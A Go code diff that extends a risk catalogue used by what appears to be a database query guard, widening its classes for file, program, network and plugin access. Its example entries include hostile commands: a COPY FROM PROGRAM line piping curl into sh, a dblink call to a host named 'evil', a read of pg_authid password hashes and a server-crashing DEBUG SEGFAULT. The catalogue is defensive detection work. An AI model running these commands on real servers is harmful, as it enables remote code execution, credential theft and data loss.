@@ -99,7 +99,7 @@ var catalogue = []Info{
 
 	{DDLCreate, protocols.RiskMedium, "Creates a table, index, view, sequence, type, schema or database, or a table from a query (CREATE TABLE AS, SELECT INTO).", "CREATE INDEX ON t (a)"},
 	{DDLAlter, protocols.RiskMedium, "Non-destructive ALTER (add a column, set a default, change a type, alter a sequence or a database's options).", "ALTER TABLE t ADD COLUMN b int"},
-	{DDLOther, protocols.RiskMedium, "Other catalogue change without data loss (COMMENT ON, SECURITY LABEL, statistics objects, collations).", "COMMENT ON TABLE t IS 'x'"},
+	{DDLOther, protocols.RiskMedium, "Other catalogue change without data loss (COMMENT ON, SECURITY LABEL, statistics objects, collations, dropping the session's own temporary tables: DROP TEMPORARY TABLE, DROP TABLE pg_temp.x).", "COMMENT ON TABLE t IS 'x'"},
 	{SessionSet, protocols.RiskMedium, "Changes a session setting other than the harmless client set-up ones (client_encoding, application_name, DateStyle, TimeZone, timeouts, SET NAMES, autocommit, user variables are risk none).", "SET search_path = app, public"},
 	{SessionReadWrite, protocols.RiskMedium, "Turns a read-only session default off.", "SET default_transaction_read_only = off"},
 	{LockTable, protocols.RiskMedium, "Takes explicit table locks.", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE"},
@@ -107,9 +107,9 @@ var catalogue = []Info{
 	{CodeExecute, protocols.RiskMedium, "Runs a statement prepared earlier in the session; its body was classified when it was prepared.", "EXECUTE get_user(1)"},
 	{AdminInspect, protocols.RiskMedium, "Reads server-wide state about other clients (Redis CLIENT LIST, SLOWLOG, ACL LOG).", "CLIENT LIST"},
 
-	{SchemaDrop, protocols.RiskHigh, "Drops an object: table, view, index, schema, database, function, extension, DROP OWNED, MySQL DROP PROCEDURE.", "DROP TABLE IF EXISTS users CASCADE"},
+	{SchemaDrop, protocols.RiskHigh, "Drops an object: table, view, index, schema, database, function, extension, trigger, DROP OWNED, MySQL DROP PROCEDURE.", "DROP TABLE IF EXISTS users CASCADE"},
 	{SchemaTruncate, protocols.RiskHigh, "Empties tables (TRUNCATE, ALTER TABLE … TRUNCATE PARTITION).", "TRUNCATE users"},
-	{SchemaAlterDrop, protocols.RiskHigh, "ALTER that loses data or integrity: DROP COLUMN, DROP CONSTRAINT, DROP PRIMARY KEY/INDEX/FOREIGN KEY, DROP/DETACH PARTITION, NO INHERIT, DROP ATTRIBUTE.", "ALTER TABLE users DROP COLUMN email"},
+	{SchemaAlterDrop, protocols.RiskHigh, "ALTER that loses data or integrity: DROP COLUMN, DROP CONSTRAINT, DROP PRIMARY KEY/INDEX/FOREIGN KEY, DROP/DETACH PARTITION, NO INHERIT, DROP ATTRIBUTE, DISCARD TABLESPACE, ENGINE=BLACKHOLE.", "ALTER TABLE users DROP COLUMN email"},
 	{SchemaRename, protocols.RiskHigh, "Renames or moves an object (RENAME TABLE, ALTER … RENAME, ALTER … SET SCHEMA).", "ALTER TABLE users RENAME TO users_old"},
 
 	{WriteUnbounded, protocols.RiskHigh, "UPDATE, DELETE, MERGE or REPLACE … SELECT that can touch every row: no WHERE, a WHERE that refers to no column of the target (1=1, true, 'a'='a', NOT false, uncorrelated EXISTS), or a tautology (id = id, x OR NOT x, x IS NULL OR x IS NOT NULL, x LIKE '%'), wherever the statement hides (CTE, rule action, function body).", "WITH d AS (DELETE FROM users WHERE 1=1 RETURNING *) SELECT count(*) FROM d"},
@@ -118,11 +118,11 @@ var catalogue = []Info{
 	{PrivilegeRole, protocols.RiskHigh, "Creates, alters, renames or drops a role or user, sets a password, transfers ownership (ALTER … OWNER TO, REASSIGN OWNED), Redis ACL SETUSER/DELUSER.", "ALTER ROLE app SUPERUSER"},
 	{PrivilegeSetRole, protocols.RiskHigh, "Switches the session's identity: SET ROLE, SET SESSION AUTHORIZATION, set_config('role', …), MySQL SET ROLE / SET DEFAULT ROLE.", "SELECT set_config('role', 'postgres', false)"},
 	{PrivilegePolicy, protocols.RiskHigh, "Creates, alters or drops row-level security policies or switches row security on a table.", "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY"},
-	{IntegrityDisable, protocols.RiskHigh, "Disables triggers, rules, foreign-key or uniqueness checks, replication or audit logging for the session or a table.", "SET session_replication_role = replica"},
+	{IntegrityDisable, protocols.RiskHigh, "Disables triggers, rules, foreign-key or uniqueness checks, index maintenance (DISABLE KEYS), replication or audit logging for the session, a statement (SET_VAR hint) or a table.", "SET session_replication_role = replica"},
 	{ReadCredentials, protocols.RiskHigh, "Reads stored credentials or password hashes (pg_authid, pg_shadow, pg_user_mappings, mysql.user, SHOW CREATE USER, Redis ACL LIST/GETUSER).", "SELECT rolpassword FROM pg_authid"},
 
 	{CodeAnonymous, protocols.RiskHigh, "Runs an anonymous code block (DO).", "DO $$ BEGIN PERFORM 1; END $$"},
-	{CodeDynamic, protocols.RiskHigh, "Executes SQL built from text at run time: PL/pgSQL EXECUTE, MySQL PREPARE … FROM @var, EXECUTE IMMEDIATE, BINLOG, and built-ins that run a query given as text (query_to_xml, ts_stat, ts_rewrite, crosstab, connectby).", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')"},
+	{CodeDynamic, protocols.RiskHigh, "Executes SQL built from text at run time: PL/pgSQL EXECUTE, MySQL PREPARE … FROM @var, EXECUTE IMMEDIATE, BINLOG, SET GLOBAL init_connect, and built-ins that run a query given as text (query_to_xml, ts_stat, ts_rewrite, crosstab, connectby). A constant query text is also classified itself.", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')"},
 	{CodeDefine, protocols.RiskHigh, "Defines or changes code that runs later: functions, procedures, triggers, event triggers, rules, extensions, languages, MySQL events, Redis FUNCTION LOAD.", "CREATE TRIGGER t BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()"},
 	{CodeCall, protocols.RiskHigh, "Calls a stored procedure whose body Airlock cannot see.", "CALL purge_all()"},
 	{CodeScript, protocols.RiskHigh, "Runs or manages server-side scripts (Redis EVAL, EVALSHA, EVAL_RO, FCALL, SCRIPT).", "EVAL \"return redis.call('del', KEYS[1])\" 1 k"},
@@ -137,10 +137,10 @@ var catalogue = []Info{
 	{AdminMonitor, protocols.RiskHigh, "Streams every other client's commands (Redis MONITOR, SYNC, PSYNC).", "MONITOR"},
 	{AdminDebug, protocols.RiskHigh, "Debugging commands that can crash or stall the server (Redis DEBUG).", "DEBUG SEGFAULT"},
 
-	{ReachFile, protocols.RiskCritical, "Reads or writes the server's file system: COPY … TO/FROM 'file', pg_read_file, pg_ls_dir, lo_import/lo_export, CREATE TABLESPACE, MySQL INTO OUTFILE/DUMPFILE, LOAD_FILE(), LOAD DATA [LOCAL] INFILE, Redis CONFIG SET dir/dbfilename/logfile.", "COPY users TO '/tmp/users.csv'"},
-	{ReachProgram, protocols.RiskCritical, "Runs an operating-system program: COPY … PROGRAM, untrusted procedural languages (plpython3u, plperlu, …), file_fdw program option, sys_exec UDFs.", "COPY t FROM PROGRAM 'curl http://x | sh'"},
-	{ReachNetwork, protocols.RiskCritical, "Opens connections to other hosts: dblink, http extensions, foreign servers, user mappings, foreign tables, subscriptions, Redis MIGRATE, REPLICAOF host port, CLUSTER MEET.", "SELECT dblink_exec('host=evil', 'DROP TABLE t')"},
-	{ReachPlugin, protocols.RiskCritical, "Loads native code into the server: LOAD, C or internal language functions, INSTALL PLUGIN/COMPONENT, CREATE FUNCTION … SONAME, Redis MODULE LOAD.", "INSTALL PLUGIN x SONAME 'x.so'"},
+	{ReachFile, protocols.RiskCritical, "Reads or writes the server's file system: COPY … TO/FROM 'file', pg_read_file, pg_ls_dir, lo_import/lo_export, CREATE TABLESPACE, GRANT pg_read/write_server_files, log_directory and other path settings, MySQL INTO OUTFILE/DUMPFILE, LOAD_FILE(), LOAD DATA [LOCAL] INFILE, SET GLOBAL general_log_file and other *_file/*_dir variables, DATA/INDEX DIRECTORY, Redis CONFIG SET dir/dbfilename/logfile.", "COPY users TO '/tmp/users.csv'"},
+	{ReachProgram, protocols.RiskCritical, "Runs an operating-system program: COPY … PROGRAM, untrusted procedural languages (plpython3u, plperlu, …), file_fdw program option, archive_command and other command settings, GRANT pg_execute_server_program, sys_exec UDFs.", "COPY t FROM PROGRAM 'curl http://x | sh'"},
+	{ReachNetwork, protocols.RiskCritical, "Opens connections to other hosts: dblink, http extensions, foreign servers, user mappings, foreign tables, subscriptions, primary_conninfo, MySQL CREATE SERVER, FEDERATED/CONNECT engines, CLONE, Redis MIGRATE, REPLICAOF host port, CLUSTER MEET.", "SELECT dblink_exec('host=evil', 'DROP TABLE t')"},
+	{ReachPlugin, protocols.RiskCritical, "Loads native code into the server: LOAD, C or internal language functions, *_preload_libraries and dynamic_library_path settings, INSTALL PLUGIN/COMPONENT, CREATE FUNCTION … SONAME, Redis MODULE LOAD.", "INSTALL PLUGIN x SONAME 'x.so'"},
 }
 
 var byID = func() map[string]Info {
